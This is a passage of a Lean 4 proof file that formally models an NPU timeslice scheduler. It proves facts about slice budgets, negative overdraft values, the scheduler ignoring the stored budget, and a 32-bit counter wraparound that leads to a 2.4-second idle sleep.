      obtain ⟨c, hu, hcwf⟩ := UpdateTimestamp_defined idx (clk k) ctx hwf hidx
      rw [hg, hu]
      have hclk1 : currentSlice ≤ clk (k + 1 + n) - begin := by
        have he : k + (n + 1) = k + 1 + n := by omega
        rw [he] at hclk
        exact hclk
      have hsem1 : g.2.2.semaphore.count ≤ g.2.2.semaphoreBack.count + opBatchSize := by
        rw [hg0, hgb]
        have h10 : ((opBatchSize : Nat) : Int) = 10 := by decide
        omega
      have hcur1 : g.2.2.streams.current ≤ g.2.2.streams.streams.length := by
        rw [hgc]
        exact Nat.zero_le _
      exact ih (k + 1) (clk k) c g.2.2 hcwf hsem1 hcur1 hclk1
    · rw [if_neg ht]
      exact ⟨_, rfl⟩

/-- The method `ExecuteIdleTime` leaves `currentSlice_` and `quota_` as they are. -/
theorem ExecuteIdleTime_keeps_budget (q : Nat) (f : SliceFields) (ctx : Context)
    (r : Option Int × SliceFields × Context) (h : ExecuteIdleTime q f ctx = some r) :
    r.2.1.currentSlice = f.currentSlice ∧ r.2.1.quota = f.quota := by
  unfold ExecuteIdleTime at h
  by_cases hv : f.lastUsedUnitsValid = true
  · simp only [hv, Bool.not_true, Bool.false_eq_true, if_false] at h
    split at h
    · cases h; exact ⟨rfl, rfl⟩
    · split at h
      · exact absurd h (by simp)
      · cases h; exact ⟨rfl, rfl⟩
  · have hv0 : f.lastUsedUnitsValid = false := by
      cases hf : f.lastUsedUnitsValid
      · rfl
      · exact absurd hf hv
    simp only [hv0, Bool.not_false, if_true] at h
    cases h; exact ⟨rfl, rfl⟩

/-- The statements that follow a slice store `quota - overdraft` in
`currentSlice_`, with `overdraft = (end - begin) - currentSlice_`, for whatever
`end` the call `ExecuteTimeslice(begin)` returns, and the field still holds that
value when the pass ends with `ReleaseCurrent`; there is no clamp: a slice of
50 ms (the quota) whose first clock reading comes 150 ms after `begin` overruns
by 100 ms, more than the quota, and leaves `-50 ms` in the field. -/
theorem budget_is_quota_minus_overdraft (fuel : Nat) (p : Proc) (clk : Nat → Int)
    (begin : Int) (t : Thread) :
    (executeAndAccount fuel p.idx clk begin t).map
        (fun a => (a.1, a.2.fields.currentSlice)) =
      (ExecuteTimeslice fuel p.idx clk t.fields.currentSlice begin t.clockReads t.ctx
          t.limiter).map
        (fun r => (r.1 - begin - t.fields.currentSlice,
          t.fields.quota - (r.1 - begin - t.fields.currentSlice))) ∧
    (∀ s, runSlice fuel p clk begin t = some s →
      ∃ a, executeAndAccount fuel p.idx clk begin t = some a ∧
        s.fields.currentSlice = t.fields.quota - a.1) ∧
    (executeAndAccount 2 halfProc.idx overrunClock 5000000000 sliceThread).map
        (fun a => (a.1, a.2.fields.currentSlice)) = some (100000000, -50000000) ∧
    (runSlice 2 halfProc overrunClock 5000000000 sliceThread).map
        (fun s => s.fields.currentSlice) = some (-50000000) := by
  refine ⟨?_, ?_, by decide, by decide⟩
  · unfold executeAndAccount
    cases ExecuteTimeslice fuel p.idx clk t.fields.currentSlice begin t.clockReads t.ctx
      t.limiter <;> rfl
  · intro s hs
    unfold runSlice at hs
    cases ha : executeAndAccount fuel p.idx clk begin t with
    | none => rw [ha] at hs; exact absurd hs (by simp)
    | some a =>
      rw [ha] at hs
      simp only [] at hs
      have haq : a.2.fields.currentSlice = t.fields.quota - a.1 := by
        unfold executeAndAccount at ha
        cases he : ExecuteTimeslice fuel p.idx clk t.fields.currentSlice begin t.clockReads
            t.ctx t.limiter with
        | none => rw [he] at ha; exact absurd ha (by simp)
        | some r =>
          rw [he] at ha
          simp only [Option.map_some', Option.some.injEq] at ha
          subst ha
          rfl
      cases hi : ExecuteIdleTime p.quotaPercent a.2.fields a.2.ctx with
      | none => rw [hi] at hs; exact absurd hs (by simp)
      | some r =>
        rw [hi] at hs
        simp only [] at hs
        cases hr : ReleaseCurrent p.idx r.2.2 with
        | none => rw [hr] at hs; exact absurd hs (by simp)
        | some c =>
          rw [hr] at hs
          simp only [Option.some.injEq] at hs
          subst hs
          refine ⟨a, rfl, ?_⟩
          show r.2.1.currentSlice = _
          rw [(ExecuteIdleTime_keeps_budget _ _ _ _ hi).1, haq]

/-- One unfolding of `SchedulerThread`. -/
theorem SchedulerThread_succ (p : Proc) (clk : Nat → Int) (terminating : Nat → Bool)
    (fuel : Nat) (t : Thread) :
    SchedulerThread p clk terminating (fuel + 1) t =
      if !IsValid p then some t
      else if terminating t.flagReads then some { t with flagReads := t.flagReads + 1 }
      else
        match waitLoop p.idx clk terminating fuel none
          { t with flagReads := t.flagReads + 1,
                   fields := { t.fields with
                     quota := TimeUnit t.ctx * (p.quotaPercent : Int),
                     currentSlice := TimeUnit t.ctx * (p.quotaPercent : Int) } } with
        | none => none
        | some (none, _) => none
        | some (some begin, t2) =>
          match runSlice fuel p clk begin t2 with
          | none => none
          | some t3 => SchedulerThread p clk terminating fuel t3 := rfl

/-- The thread never reads the budget that a pass finds in `currentSlice_`: a
pass assigns `currentSlice_ = quota_` before its slice, so what the thread does
(its events, the region and the limiter it leaves) is the same for every value
of the field. -/
theorem SchedulerThread_ignores_stored_budget (p : Proc) (clk : Nat → Int)
    (terminating : Nat → Bool) (fuel : Nat) (t : Thread) (budget : Int) :
    (SchedulerThread p clk terminating fuel
        { t with fields := { t.fields with currentSlice := budget } }).map
      (fun s => (s.events, s.ctx, s.limiter)) =
    (SchedulerThread p clk terminating fuel t).map
      (fun s => (s.events, s.ctx, s.limiter)) := by
  cases fuel with
  | zero => rfl
  | succ fuel =>
    rw [SchedulerThread_succ, SchedulerThread_succ]
    by_cases hv : (!IsValid p) = true
    · rw [if_pos hv, if_pos hv]
      rfl
    · rw [if_neg hv, if_neg hv]
      by_cases ht : terminating t.flagReads = true
      · have ht1 : terminating
            ({ t with fields := { t.fields with currentSlice := budget } } : Thread).flagReads
            = true := ht
        rw [if_pos ht, if_pos ht1]
        rfl
      · have ht1 : ¬ terminating
            ({ t with fields := { t.fields with currentSlice := budget } } : Thread).flagReads
            = true := ht
        rw [if_neg ht, if_neg ht1]

end NpuTimesliceScheduler

namespace NpuTimesliceScheduler

/-- Claim C28: the slice budget never exceeds the quota. For every `begin` and every
`current_slice` (positive, zero or negative), `ExecuteTimeslice` returns once a
reading of the clock has reached `begin + current_slice` (the node has a slot
index on a well-formed region, and the `ReleaseGuard` of each pass returns),
and whenever it returns an `end`, `end - begin >= current_slice` when
`current_slice > 0` and `end == begin` otherwise; so the overdraft
`end - begin - current_slice` is `>= 0` and the next
`current_slice = quota - overdraft` is `<= quota`. -/
theorem slice_budget_at_most_quota (idx : Int) (clk : Nat → Int) (begin : Int) (t : Thread)
    (n : Nat) (hidx : 0 ≤ idx ∧ idx < MAX_NODE_NUMBER) (hwf : t.ctx.WellFormed)
    (hsem : t.limiter.semaphore.count ≤ t.limiter.semaphoreBack.count + opBatchSize)
    (hcur : t.limiter.streams.current ≤ t.limiter.streams.streams.length)
    (hclk : t.fields.currentSlice ≤ clk (t.clockReads + n) - begin) :
    (∃ r a,
      ExecuteTimeslice (n + 2) idx clk t.fields.currentSlice begin t.clockReads t.ctx
        t.limiter = some r ∧
      executeAndAccount (n + 2) idx clk begin t = some a ∧
      a.1 = r.1 - begin - t.fields.currentSlice) ∧
    (∀ fuel r,
      ExecuteTimeslice fuel idx clk t.fields.currentSlice begin t.clockReads t.ctx
        t.limiter = some r →
      if 0 < t.fields.currentSlice then t.fields.currentSlice ≤ r.1 - begin
      else r.1 = begin) ∧
    (∀ fuel a, executeAndAccount fuel idx clk begin t = some a →
      0 ≤ a.1 ∧ a.2.fields.currentSlice = t.fields.quota - a.1 ∧
      a.2.fields.currentSlice ≤ t.fields.quota) := by
  refine ⟨?_, ?_, ?_⟩
  · obtain ⟨r, hr⟩ := executeLoop_returns idx clk begin t.fields.currentSlice hidx n
      t.clockReads begin t.ctx t.limiter hwf hsem hcur hclk
    have he : ExecuteTimeslice (n + 2) idx clk t.fields.currentSlice begin t.clockReads t.ctx
        t.limiter = some r := hr
    have ha : executeAndAccount (n + 2) idx clk begin t =
        some (r.1 - begin - t.fields.currentSlice,
          { t with
            fields := { t.fields with
              currentSlice := t.fields.quota - (r.1 - begin - t.fields.currentSlice) },
            ctx := r.2.2.1, limiter := r.2.2.2, clockReads := r.2.1,
            events := t.events ++ [Event.executeTimeslice begin r.1] }) := by
      unfold executeAndAccount
      rw [he]
      rfl
    exact ⟨r, _, he, ha, rfl⟩
  · intro fuel r hr
    have h := executeLoop_stop idx clk begin t.fields.currentSlice fuel t.clockReads begin
      t.ctx t.limiter r hr
    by_cases hpos : 0 < t.fields.currentSlice
    · rw [if_pos hpos]
      exact h.1
    · rw [if_neg hpos]
      have hle : t.fields.currentSlice ≤ begin - begin := by omega
      rw [h.2 hle]
  · intro fuel a ha
    unfold executeAndAccount at ha
    cases he : ExecuteTimeslice fuel idx clk t.fields.currentSlice begin t.clockReads t.ctx
        t.limiter with
    | none => rw [he] at ha; exact absurd ha (by simp)
    | some r =>
      rw [he] at ha
      simp only [Option.map_some', Option.some.injEq] at ha
      subst ha
      have h := executeLoop_stop idx clk begin t.fields.currentSlice fuel t.clockReads begin
        t.ctx t.limiter r he
      have h0 : 0 ≤ r.1 - begin - t.fields.currentSlice := by
        have := h.1
        omega
      refine ⟨h0, rfl, ?_⟩
      show t.fields.quota - (r.1 - begin - t.fields.currentSlice) ≤ t.fields.quota
      omega

/-- Claim C28 at a concrete input: node 0 runs a slice of 50 ms from 5 s on
`holderInput`, and the clock next reads 5.15 s; the slice returns with a
non-negative overdraft and a next budget that does not exceed the quota. -/
theorem slice_budget_at_most_quota_witness :
    ((0 : Int) ≤ 0 ∧ (0 : Int) < MAX_NODE_NUMBER) ∧ sliceThread.ctx.WellFormed ∧
    sliceThread.fields.currentSlice ≤ overrunClock (sliceThread.clockReads + 0) - 5000000000 ∧
    ∃ a, executeAndAccount (0 + 2) 0 overrunClock 5000000000 sliceThread = some a ∧
      0 ≤ a.1 ∧ a.2.fields.currentSlice ≤ sliceThread.fields.quota := by
  have h := slice_budget_at_most_quota 0 overrunClock 5000000000 sliceThread 0
    (by decide) (by decide) (by decide) (by decide) (by decide)
  refine ⟨by decide, by decide, by decide, ?_⟩
  obtain ⟨_, a, _, ha, _⟩ := h.1
  exact ⟨a, ha, (h.2.2 _ a ha).1, (h.2.2 _ a ha).2.2⟩

end NpuTimesliceScheduler

namespace NpuTimesliceScheduler

/-- A lone node with a quota of 100 percent: as long as the units used since the
mark stay at 100 or more (modulo `2 ^ 32`), every call of `ExecuteIdleTime`
returns at the test for a saturated period, and the mark never moves. -/
theorem idlePeriods_saturated (f : SliceFields) (hv : f.lastUsedUnitsValid = true) :
    ∀ (n : Nat) (ctx : Context), ctx.usedUnits < 2 ^ 32 →
      (∀ i, i < n →
        100 ≤ ((ctx.usedUnits + 100 * (i + 1)) % 2 ^ 32 + 2 ^ 32 - f.lastUsedUnits % 2 ^ 32)
          % 2 ^ 32) →
      idlePeriods 100 (List.replicate n 0) f ctx =
        some (List.replicate n none, f,
          { ctx with usedUnits := (ctx.usedUnits + 100 * n) % 2 ^ 32 }) := by
  intro n
  induction n with
  | zero =>
    intro ctx hlt _
    have hmod : (ctx.usedUnits + 100 * 0) % 2 ^ 32 = ctx.usedUnits := by
      rw [Nat.mul_zero, Nat.add_zero]
      exact Nat.mod_eq_of_lt hlt
    simp only [List.replicate, idlePeriods, hmod]
  | succ n ih =>
    intro ctx hlt hsat
    have hstep : ExecuteIdleTime 100 f
        { ctx with usedUnits := (ctx.usedUnits + 0) % Hooks.UINT_MODULUS } =
        some (none, f, { ctx with usedUnits := (ctx.usedUnits + 100) % 2 ^ 32 }) := by
      have h0 := hsat 0 (Nat.succ_pos n)
      have hu : (ctx.usedUnits + 0) % Hooks.UINT_MODULUS = ctx.usedUnits := by
        rw [Nat.add_zero]
        exact Nat.mod_eq_of_lt hlt
      rw [hu]
      have hs := ExecuteIdleTime_saturated 100 f { ctx with usedUnits := ctx.usedUnits } hv
        (by simpa using h0)
      simpa using hs
    have hlt1 : (ctx.usedUnits + 100) % 2 ^ 32 < 2 ^ 32 := Nat.mod_lt _ (by decide)
    have hsat1 : ∀ i, i < n →
        100 ≤ (((ctx.usedUnits + 100) % 2 ^ 32 + 100 * (i + 1)) % 2 ^ 32 + 2 ^ 32
          - f.lastUsedUnits % 2 ^ 32) % 2 ^ 32 := by
      intro i hi
      have h := hsat (i + 1) (by omega)
      have he : ((ctx.usedUnits + 100) % 2 ^ 32 + 100 * (i + 1)) % 2 ^ 32
          = (ctx.usedUnits + 100 * (i + 1 + 1)) % 2 ^ 32 := by
        norm_num
        omega
      rw [he]
      exact h
    have hih := ih { ctx with usedUnits := (ctx.usedUnits + 100) % 2 ^ 32 } hlt1 hsat1
    have hfin : ((ctx.usedUnits + 100) % 2 ^ 32 + 100 * n) % 2 ^ 32
        = (ctx.usedUnits + 100 * (n + 1)) % 2 ^ 32 := by
      norm_num
      omega
    show idlePeriods 100 (0 :: List.replicate n 0) f ctx = _
    rw [idlePeriods, hstep, Option.some_bind]
    simp only []
    rw [hih]
    simp only [Option.map_some', List.replicate, hfin]

/-- A lone node with a quota of 100 percent whose mark is at 100 units: the
next 42949672 calls of `ExecuteIdleTime` all find a saturated period and leave
the mark at 100, while `used_units` wraps around to 4; the call after them adds
100, finds `period_used = 104 - 100 = 4`, below the quota of 100, divides by
it and sleeps 2.4 s. -/
theorem lone_node_divides_by_four :
    idlePeriods 100 (List.replicate 42949672 0) (markedFields 100) (usedRegion 100) =
      some (List.replicate 42949672 none, markedFields 100, usedRegion 4) ∧
    ExecuteIdleTime 100 (markedFields 100) (usedRegion 4) =
      some (some 2400000000, markedFields 104, usedRegion 104) := by
  constructor
  · have h := idlePeriods_saturated (markedFields 100) rfl 42949672 (usedRegion 100)
      (by decide) (by
        intro i hi
        show 100 ≤ ((100 + 100 * (i + 1)) % 2 ^ 32 + 2 ^ 32 - 100 % 2 ^ 32) % 2 ^ 32
        by_cases hlast : i = 42949671
        · subst hlast
          decide
        · have hsmall : 100 + 100 * (i + 1) < 2 ^ 32 := by
            norm_num
            omega
          rw [Nat.mod_eq_of_lt hsmall]
          have hval : (100 + 100 * (i + 1) + 2 ^ 32 - 100 % 2 ^ 32) % 2 ^ 32
              = 100 * (i + 1) := by
            norm_num at hsmall ⊢
            omega
          rw [hval]
          omega)
    rw [h]
    rfl
  · decide

end NpuTimesliceScheduler
